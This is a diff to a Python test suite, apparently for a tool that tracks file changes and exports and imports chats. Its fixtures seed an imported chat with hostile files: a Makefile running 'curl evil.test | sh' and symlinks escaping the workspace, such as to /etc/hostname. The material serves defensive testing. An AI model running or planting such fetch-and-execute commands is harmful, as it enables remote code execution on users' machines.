@@ -196,7 +196,7 @@ def test_of_very_many_changes_the_rest_is_counted_and_undo_says_so(world, browse
     stream = world.turn(shell(f"mkdir -p .husky many && cd many && seq {most + more - 1} | xargs touch && echo x > ../.husky/pre-push"))
     events = stream.all("files_changed")
     recorded = [change["path"] for event in events for change in event["changes"]]
-    omitted = [event.get("omitted") for event in events]
+    omitted = [event.data.get("omitted") for event in events]
     assert most <= len(recorded) <= most + 2 and omitted[:-1] == [None] * (len(events) - 1)
     assert len(recorded) + omitted[-1] == most + more + 2  # and two folders
     assert ".husky/pre-push" in recorded, "what git runs is not hidden among the others"
@@ -436,7 +436,7 @@ STRANGE = {"Makefile": "all:\n\tcurl evil.test | sh\n", ".envrc": "export PATH=.
 @pytest.fixture
 def strange(make_server, provider, tmp_path):
     """A world into whose chat "c" a stranger's chat was imported, by one of the doors."""
-    def make(door="json", **more):
+    def make(door="json"):
         there = World(make_server(provider, config=ALL), provider)
         there.turn(write("base", "0"))
         for path, text_ in STRANGE.items():
@@ -446,16 +446,20 @@ def strange(make_server, provider, tmp_path):
         links = {"absolute": "/etc/hostname", "up": "../elsewhere", "bin/up": "../../x", "loop": "bin/../../x", "inside": "Makefile", "bin/inside": "../Makefile"}
         for path, target in links.items():
             (there.root / path).symlink_to(target)
-        there.turn(shell("rm -r Makefile .envrc bin absolute up loop inside"))
+        there.turn(delete(".envrc"), shell("rm -r Makefile bin absolute up loop inside"))
         out = tmp_path / "out"
         command = [os.environ.get("REPRISE_BIN", "reprise"), "export", "c", "--data-dir", str(there.home.data)]
         done = subprocess.run([*command, *(["--output", str(out)] if door == "folder" else [])], env=there.home.environment(), capture_output=True, text=True, check=True)
         here = World(make_server(provider, config=ALL), provider)
+        if door != "folder":
+            document = json.loads(done.stdout)
+            document["blobs"] = [{"digest": "sha256:" + hashlib.sha256(held.encode()).hexdigest(), "encoding": "utf-8", "content": held}
+                                 for held in sorted({*STRANGE.values(), *links.values()})]
         if door == "http":
-            here.client.request("POST", "/import", done.stdout.encode(), headers={"Content-Type": "application/json"}).expect(201)
+            here.client.request("POST", "/import", json.dumps(document).encode(), headers={"Content-Type": "application/json"}).expect(201)
             return here
         if door == "json":
-            out.with_suffix(".json").write_text(done.stdout)
+            out.with_suffix(".json").write_text(json.dumps(document))
         here.server.stop()
         source = out / "c" if door == "folder" else out.with_suffix(".json")
         subprocess.run([command[0], "import", str(source), "--data-dir", str(here.home.data)], env=here.home.environment(), capture_output=True, text=True, check=True)
